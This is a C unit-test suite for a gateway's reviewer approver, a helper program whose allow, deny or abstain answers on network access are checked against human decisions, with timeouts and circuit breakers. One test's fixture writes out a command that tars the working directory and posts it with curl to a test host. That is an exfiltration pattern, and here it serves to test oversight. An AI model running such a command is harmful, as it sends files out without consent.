#include "tests/unit/gateway/approvers/test_approver.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/fd.h"
#include "gateway/approvers/programs/reviewer.h"

#define WAIT_MS 20000

/* The reviewer is the test itself: the program only passes lines on, through two named pipes. */
static struct {
	struct gateway gw;
	char dir[64], answers_path[96], asked_path[96], trust_dir[96];
	int answers, asked;
	char text[1 << 18];
	size_t text_len;
	const char *argv[6];
	struct gateway_reviewer config;
	struct gateway_helpers helpers;
	char line[1 << 16]; /* the last that was asked */
} stage;

static const char *const environment[] = { "PATH=/usr/bin:/bin", NULL };

static int make_pipe(char path[96], const char *name)
{
	(void)snprintf(path, 96, "%s/%s", stage.dir, name);
	ck_assert_int_eq(mkfifo(path, 0600), 0);
	int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);

	ck_assert_int_ge(fd, 0);
	return fd;
}

static void stage_open_program(const char *program, bool may_answer)
{
	(void)snprintf(stage.dir, sizeof(stage.dir), "%s", "/tmp/test-reviewer-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(stage.dir));
	(void)snprintf(stage.trust_dir, sizeof(stage.trust_dir), "%s/sheets", stage.dir);
	stage.answers = make_pipe(stage.answers_path, "answers");
	stage.asked = make_pipe(stage.asked_path, "asked");
	if (stage.argv[0] == NULL)
		stage.argv[0] = program;
	stage.config = (struct gateway_reviewer){
		.program = { program, stage.argv, environment },
		.may_answer = may_answer,
		.digest = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
		.command = "the test",
		.trust_dir = stage.trust_dir,
	};
	stage.helpers.reviewer = &stage.config;
	stage.gw.config.helpers = &stage.helpers;
	fake_open(&stage.gw, &reviewer_approver);
}

static void stage_open(bool may_answer)
{
	static char script[256];

	stage.argv[0] = "sh";
	stage.argv[1] = "-c";
	stage.argv[2] = script;
	stage_open_program("/bin/sh", may_answer);
	(void)snprintf(script, sizeof(script), "cat '%s' & exec cat >'%s'", stage.answers_path,
		       stage.asked_path);
}

static void stage_close(void)
{
	char sheet[256];

	fake_close(&stage.gw);
	fd_close(stage.answers);
	fd_close(stage.asked);
	(void)unlink(stage.answers_path);
	(void)unlink(stage.asked_path);
	(void)snprintf(sheet, sizeof(sheet), "%s/%s.json", stage.trust_dir, stage.config.digest);
	(void)unlink(sheet);
	(void)rmdir(stage.trust_dir);
	ck_assert_int_eq(rmdir(stage.dir), 0);
}

static struct approver *reviewer(void)
{
	return stage.gw.approver;
}

static bool is_readable(int fd, int wait_ms)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };

	return poll(&wait, 1, wait_ms) == 1;
}

/* The id of the next question that arrives at the program; its line is in stage.line. */
static const char *next_question(void)
{
	static char id[REVIEWER_ID_MAX];
	char *end;

	fake_settle(&stage.gw);
	while (!(end = memchr(stage.text, '\n', stage.text_len))) {
		ck_assert_msg(is_readable(stage.asked, WAIT_MS), "nothing was asked");
		ssize_t got = read(stage.asked, stage.text + stage.text_len,
				   sizeof(stage.text) - stage.text_len);

		ck_assert_int_gt(got, 0);
		stage.text_len += (size_t)got;
		fake_settle(&stage.gw);
	}
	size_t len = (size_t)(end - stage.text) + 1;

	ck_assert_uint_lt(len, sizeof(stage.line));
	memcpy(stage.line, stage.text, len);
	stage.line[len] = '\0';
	stage.text_len -= len;
	memmove(stage.text, end + 1, stage.text_len);
	json_t *object = json_loads(stage.line, 0, NULL);

	(void)snprintf(id, sizeof(id), "%s", json_string_value(json_object_get(object, "id")));
	json_decref(object);
	return id;
}

/* Until the approver has something to read, and has read it. */
static void let_it_hear(void)
{
	ck_assert_msg(is_readable(reviewer()->helper.child.output, WAIT_MS), "nothing was said");
	fake_settle(&stage.gw);
}

static void answer_line(const char *line)
{
	/* At once: half a line is readable, too. */
	ck_assert_int_eq(fd_write_all(stage.answers, line, strlen(line)), 0);
	let_it_hear();
}

static void answer(const char *id, const char *rest)
{
	char line[512];

	(void)snprintf(line, sizeof(line), "{\"id\":\"%s\",%s}\n", id, rest);
	answer_line(line);
}

static void person(const char *id, enum policy_action action)
{
	fake_end(&stage.gw,
		 &(struct approver_end){ .id = id,
					 .action = action,
					 .reason = action == POLICY_ALLOW ? POLICY_GRANTED_ONCE
									  : POLICY_DENIED_ONCE,
					 .by = "ana on tty",
					 .how = "" });
}

static void expect_trust(struct gateway_trust want)
{
	struct gateway_trust trust;

	loop_advance(stage.gw.loop, REVIEWER_SAVE_MS);
	ck_assert_int_eq(gateway_trust_read(stage.trust_dir, stage.config.digest, &trust, NULL), 0);
	ck_assert_uint_eq(trust.agree_allow, want.agree_allow);
	ck_assert_uint_eq(trust.agree_deny, want.agree_deny);
	ck_assert_uint_eq(trust.allowed_denied, want.allowed_denied);
	ck_assert_uint_eq(trust.denied_allowed, want.denied_allowed);
	ck_assert_uint_eq(trust.abstained, want.abstained);
}

START_TEST(starts_when_it_is_first_asked)
{
	stage_open(true);
	ck_assert_int_eq(reviewer()->helper.child.pid, 0);
	ck_assert(reviewer_approver.is_attached(reviewer()));
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	ck_assert_int_gt(reviewer()->helper.child.pid, 0);
	stage_close();
}
END_TEST

START_TEST(allows_for_once)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), "\"answer\":\"allow\",\"reason\":\"it only reads\"");
	ck_assert_uint_eq(stage.gw.answer_count, 1);
	ck_assert_str_eq(stage.gw.answers[0].id, "7f3a-1");
	ck_assert_int_eq(stage.gw.answers[0].answer.action, POLICY_ALLOW);
	ck_assert_int_eq(stage.gw.answers[0].answer.scope, GATEWAY_ONCE);
	ck_assert_str_eq(stage.gw.answers[0].by, "the reviewer");
	ck_assert_uint_eq(reviewer()->question_count, 0);
	stage_close();
}
END_TEST

START_TEST(denies_for_once)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), "\"answer\":\"deny\"");
	ck_assert_uint_eq(stage.gw.answer_count, 1);
	ck_assert_int_eq(stage.gw.answers[0].answer.action, POLICY_DENY);
	ck_assert_int_eq(stage.gw.answers[0].answer.scope, GATEWAY_ONCE);
	stage_close();
}
END_TEST

START_TEST(leaves_to_people_what_it_abstains_from)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), "\"answer\":\"abstain\"");
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	ck_assert_uint_eq(reviewer()->breaker.failures, 0);
	person("7f3a-1", POLICY_ALLOW);
	expect_trust((struct gateway_trust){ .abstained = 1 });
	stage_close();
}
END_TEST

static const struct {
	const char *says;
	enum policy_action person;
	struct gateway_trust want;
} comparisons[] = {
	{ "\"answer\":\"allow\"", POLICY_ALLOW, { .agree_allow = 1 } },
	{ "\"answer\":\"deny\"", POLICY_DENY, { .agree_deny = 1 } },
	{ "\"answer\":\"allow\"", POLICY_DENY, { .allowed_denied = 1 } },
	{ "\"answer\":\"deny\"", POLICY_ALLOW, { .denied_allowed = 1 } },
	{ "\"answer\":\"abstain\"", POLICY_DENY, { .abstained = 1 } },
};
START_TEST(in_the_shadow_it_is_only_compared)
{
	stage_open(false);
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), comparisons[_i].says);
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	person("7f3a-1", comparisons[_i].person);
	expect_trust(comparisons[_i].want);
	/* The same, when the person is faster. */
	fake_ask(&stage.gw, "7f3a-2", "b.test");
	const char *id = next_question();

	person("7f3a-2", comparisons[_i].person);
	answer(id, comparisons[_i].says);
	ck_assert_uint_eq(reviewer()->question_count, 0);
	ck_assert_uint_eq(reviewer()->ignored, 0);
	struct gateway_trust twice = comparisons[_i].want;

	twice.agree_allow *= 2;
	twice.agree_deny *= 2;
	twice.allowed_denied *= 2;
	twice.denied_allowed *= 2;
	twice.abstained *= 2;
	expect_trust(twice);
	stage_close();
}
END_TEST

START_TEST(what_no_person_settled_is_not_compared)
{
	stage_open(false);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), "\"answer\":\"allow\"");
	fake_end(&stage.gw, &(struct approver_end){ .id = "7f3a-1",
						    .action = POLICY_DENY,
						    .reason = POLICY_PROMPT_TIMEOUT,
						    .by = "",
						    .how = "" });
	expect_trust((struct gateway_trust){ 0 });
	stage_close();
}
END_TEST

/* Nothing of it is an answer, and each counts against it. */
static const char *const malformed[] = {
	"\"answer\":\"allow\",\"scope\":\"session\"",
	"\"answer\":\"allow\",\"for_s\":60",
	"\"answer\":\"Allow\"",
	"\"answer\":true",
	"\"answer\":\"allow\",\"answer\":\"deny\"",
	"\"answer\":\"allow\",\"ttl_s\":-1",
	"\"answer\":\"allow\",\"ttl_s\":1e3",
	"\"answer\":\"allow\",\"reason\":7",
	"\"reason\":\"none\"",
};
START_TEST(a_malformed_answer_is_none)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), malformed[_i]);
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	ck_assert_uint_eq(reviewer()->breaker.failures, 1);
	stage_close();
}
END_TEST

START_TEST(answers_to_nothing_are_ignored)
{
	char line[128];

	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	(void)snprintf(line, sizeof(line), "%s", next_question());
	answer("7f3a-9.9", "\"answer\":\"allow\"");
	answer("7f3a-1", "\"answer\":\"allow\""); /* the question's name, not the one asked under */
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	ck_assert_uint_eq(reviewer()->ignored, 2);
	ck_assert_uint_eq(reviewer()->breaker.failures, 0);
	answer(line, "\"answer\":\"deny\"");
	answer(line, "\"answer\":\"allow\""); /* twice */
	ck_assert_uint_eq(stage.gw.answer_count, 1);
	ck_assert_uint_eq(reviewer()->ignored, 3);
	stage_close();
}
END_TEST

START_TEST(a_late_answer_is_none)
{
	char id[REVIEWER_ID_MAX];

	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	(void)snprintf(id, sizeof(id), "%s", next_question());
	loop_advance(stage.gw.loop, REVIEWER_TIMEOUT_MS);
	ck_assert_uint_eq(reviewer()->breaker.failures, 1);
	answer(id, "\"answer\":\"allow\"");
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	ck_assert_uint_eq(reviewer()->ignored, 1);
	stage_close();
}
END_TEST

START_TEST(may_not_allow_what_is_risky)
{
	stage_open(true);
	struct approver_question *question = fake_ask(&stage.gw, "7f3a-1", "a.test");

	question->risk = APPROVER_LOOKALIKE;
	answer(next_question(), "\"answer\":\"allow\"");
	/* It was not so when it was asked: it is asked again, and may not. */
	answer(next_question(), "\"answer\":\"allow\"");
	ck_assert_ptr_nonnull(strstr(stage.line, "\"risk\":[\"lookalike\"]"));
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	stage_close();
}
END_TEST

START_TEST(may_deny_what_is_risky)
{
	stage_open(true);
	struct approver_question *question = fake_ask(&stage.gw, "7f3a-1", "a.test");

	question->risk = APPROVER_LISTED;
	answer(next_question(), "\"answer\":\"deny\"");
	answer(next_question(), "\"answer\":\"deny\"");
	ck_assert_uint_eq(stage.gw.answer_count, 1);
	stage_close();
}
END_TEST

/* Another command waits by now: what was allowed was not allowed to it. */
START_TEST(is_asked_again_when_more_wait)
{
	char first[REVIEWER_ID_MAX];

	stage_open(true);
	struct approver_question *question = fake_ask(&stage.gw, "7f3a-1", "a.test");

	(void)snprintf(first, sizeof(first), "%s", next_question());
	question->commands[1] = "sh -c 'tar c . | curl --data @- a.test'";
	question->command_count = 2;
	answer(first, "\"answer\":\"allow\"");
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	const char *second = next_question();

	ck_assert_str_ne(first, second);
	ck_assert_ptr_nonnull(strstr(stage.line, "tar c ."));
	answer(second, "\"answer\":\"allow\"");
	ck_assert_uint_eq(stage.gw.answer_count, 1);
	stage_close();
}
END_TEST

START_TEST(is_not_asked_again_for_ever)
{
	char commands[REVIEWER_TRIES_MAX + 1][32];

	stage_open(true);
	struct approver_question *question = fake_ask(&stage.gw, "7f3a-1", "a.test");

	for (int i = 0; i < REVIEWER_TRIES_MAX; i++) {
		const char *id = next_question();

		(void)snprintf(commands[i], sizeof(commands[i]), "curl %d", i);
		question->commands[0] = commands[i];
		answer(id, "\"answer\":\"allow\"");
	}
	fake_settle(&stage.gw);
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	ck_assert_uint_eq(reviewer()->asked_count, 0);
	stage_close();
}
END_TEST

START_TEST(remembers_for_as_long_as_it_says)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	answer(next_question(), "\"answer\":\"allow\",\"ttl_s\":5");
	fake_ask(&stage.gw, "7f3a-2", "a.test");
	ck_assert_uint_eq(stage.gw.answer_count, 2);
	ck_assert_int_eq(stage.gw.answers[1].answer.action, POLICY_ALLOW);
	fake_ask(&stage.gw, "7f3a-3", "b.test");
	answer(next_question(), "\"answer\":\"deny\",\"ttl_s\":5");
	ck_assert_uint_eq(stage.gw.answer_count, 3);
	fake_ask(&stage.gw, "7f3a-4", "b.test"); /* a denial has its own time, and had none */
	answer(next_question(), "\"answer\":\"deny\",\"negative_ttl_s\":5");
	fake_ask(&stage.gw, "7f3a-5", "b.test");
	ck_assert_uint_eq(stage.gw.answer_count, 5);
	loop_advance(stage.gw.loop, 5000);
	fake_ask(&stage.gw, "7f3a-6", "a.test");
	ck_assert_uint_eq(stage.gw.answer_count, 5);
	answer(next_question(), "\"answer\":\"deny\"");
	ck_assert_uint_eq(stage.gw.answer_count, 6);
	stage_close();
}
END_TEST

START_TEST(is_not_asked_after_three_failures)
{
	char id[24];

	stage_open(true);
	for (int i = 0; i < REVIEWER_FAILURES_MAX; i++) {
		ck_assert(reviewer_approver.is_attached(reviewer()));
		(void)snprintf(id, sizeof(id), "7f3a-%d", i + 1);
		fake_ask(&stage.gw, id, "a.test");
		loop_advance(stage.gw.loop, REVIEWER_TIMEOUT_MS);
	}
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	ck_assert_uint_eq(stage.gw.changed_count, 1);
	ck_assert_int_eq(reviewer()->helper.child.pid, 0);
	fake_ask(&stage.gw, "7f3a-4", "a.test");
	ck_assert_int_eq(reviewer()->helper.child.pid, 0);
	/* One question tries it; the other waits for what comes of it. */
	loop_advance(stage.gw.loop, REVIEWER_OPEN_MS);
	ck_assert(reviewer_approver.is_attached(reviewer()));
	fake_ask(&stage.gw, "7f3a-5", "a.test");
	fake_ask(&stage.gw, "7f3a-6", "b.test");
	ck_assert_uint_eq(reviewer()->asked_count, 1);
	loop_advance(stage.gw.loop, REVIEWER_TIMEOUT_MS);
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	loop_advance(stage.gw.loop, REVIEWER_OPEN_MS);
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	loop_advance(stage.gw.loop, REVIEWER_OPEN_MS);
	ck_assert(reviewer_approver.is_attached(reviewer()));
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	stage_close();
}
END_TEST

START_TEST(hands_over_after_ten_denials)
{
	char id[24];

	stage_open(true);
	for (int i = 0; i < REVIEWER_DENIALS_MAX; i++) {
		ck_assert(reviewer_approver.is_attached(reviewer()));
		(void)snprintf(id, sizeof(id), "7f3a-%d", i + 1);
		fake_ask(&stage.gw, id, "a.test");
		answer(next_question(), "\"answer\":\"deny\"");
	}
	ck_assert_uint_eq(stage.gw.answer_count, REVIEWER_DENIALS_MAX);
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	stage_close();
}
END_TEST

START_TEST(is_believed_no_more_when_it_was_dangerous)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	const char *id = next_question();

	person("7f3a-1", POLICY_DENY);
	answer(id, "\"answer\":\"allow\"");
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	fake_ask(&stage.gw, "7f3a-2", "b.test");
	answer(next_question(), "\"answer\":\"allow\"");
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	expect_trust((struct gateway_trust){ .allowed_denied = 1 });
	stage_close();
}
END_TEST

START_TEST(is_asked_a_few_at_a_time)
{
	char id[24];

	stage_open(true);
	for (int i = 0; i <= REVIEWER_ASKED_MAX; i++) {
		(void)snprintf(id, sizeof(id), "7f3a-%d", i + 1);
		fake_ask(&stage.gw, id, "a.test");
	}
	ck_assert_uint_eq(reviewer()->asked_count, REVIEWER_ASKED_MAX);
	answer(next_question(), "\"answer\":\"abstain\"");
	ck_assert_uint_eq(reviewer()->asked_count, REVIEWER_ASKED_MAX);
	ck_assert_uint_eq(reviewer()->last_sent, REVIEWER_ASKED_MAX + 1);
	stage_close();
}
END_TEST

START_TEST(a_line_without_end_ends_it)
{
	static char junk[8192];

	memset(junk, 'x', sizeof(junk));
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	(void)next_question();
	for (int i = 0; i < 9; i++) {
		ck_assert_int_eq(fd_write_all(stage.answers, junk, sizeof(junk)), 0);
		if (reviewer()->helper.child.pid > 0)
			let_it_hear();
	}
	for (int i = 0; i < 100 && reviewer()->helper.child.pid > 0; i++)
		let_it_hear();
	ck_assert_int_eq(reviewer()->helper.child.pid, 0);
	ck_assert_uint_eq(reviewer()->breaker.failures, 1);
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	stage_close();
}
END_TEST

/* What ends at once, what cannot be executed, what throws the question back. */
static const char *const useless[] = { "/bin/false", "/nonexistent/reviewer", "/bin/cat" };
START_TEST(a_useless_program_is_given_up)
{
	char id[24];

	stage_open_program(useless[_i], true);
	for (int i = 0; i < REVIEWER_FAILURES_MAX; i++) {
		ck_assert(reviewer_approver.is_attached(reviewer()));
		(void)snprintf(id, sizeof(id), "7f3a-%d", i + 1);
		fake_ask(&stage.gw, id, "a.test");
		while (reviewer()->asked_count > 0) /* it may be over by now */
			let_it_hear();
	}
	ck_assert(!reviewer_approver.is_attached(reviewer()));
	ck_assert_uint_eq(stage.gw.answer_count, 0);
	stage_close();
}
END_TEST

START_TEST(is_ended_with_all_it_started)
{
	stage_open(true);
	fake_ask(&stage.gw, "7f3a-1", "a.test");
	(void)next_question(); /* both of its processes are there */
	pid_t group = reviewer()->helper.child.pid;

	ck_assert_int_eq(kill(-group, 0), 0);
	stage_close();
	/* The shell's children are killed, too; their new parent may not have reaped them yet. */
	ck_assert(kill(group, 0) < 0 && errno == ESRCH);
}
END_TEST

Suite *suite_reviewer(void)
{
	Suite *suite = suite_create("approver: reviewer");
	TCase *tcase = tcase_create("reviewer");

	tcase_set_timeout(tcase, 60);
	tcase_add_test(tcase, starts_when_it_is_first_asked);
	tcase_add_test(tcase, allows_for_once);
	tcase_add_test(tcase, denies_for_once);
	tcase_add_test(tcase, leaves_to_people_what_it_abstains_from);
	tcase_add_loop_test(tcase, in_the_shadow_it_is_only_compared, 0,
			    sizeof(comparisons) / sizeof(comparisons[0]));
	tcase_add_test(tcase, what_no_person_settled_is_not_compared);
	tcase_add_loop_test(tcase, a_malformed_answer_is_none, 0,
			    sizeof(malformed) / sizeof(malformed[0]));
	tcase_add_test(tcase, answers_to_nothing_are_ignored);
	tcase_add_test(tcase, a_late_answer_is_none);
	tcase_add_test(tcase, may_not_allow_what_is_risky);
	tcase_add_test(tcase, may_deny_what_is_risky);
	tcase_add_test(tcase, is_asked_again_when_more_wait);
	tcase_add_test(tcase, is_not_asked_again_for_ever);
	tcase_add_test(tcase, remembers_for_as_long_as_it_says);
	tcase_add_test(tcase, is_not_asked_after_three_failures);
	tcase_add_test(tcase, hands_over_after_ten_denials);
	tcase_add_test(tcase, is_believed_no_more_when_it_was_dangerous);
	tcase_add_test(tcase, is_asked_a_few_at_a_time);
	tcase_add_test(tcase, a_line_without_end_ends_it);
	tcase_add_loop_test(tcase, a_useless_program_is_given_up, 0,
			    sizeof(useless) / sizeof(useless[0]));
	tcase_add_test(tcase, is_ended_with_all_it_started);
	suite_add_tcase(suite, tcase);
	return suite;
}
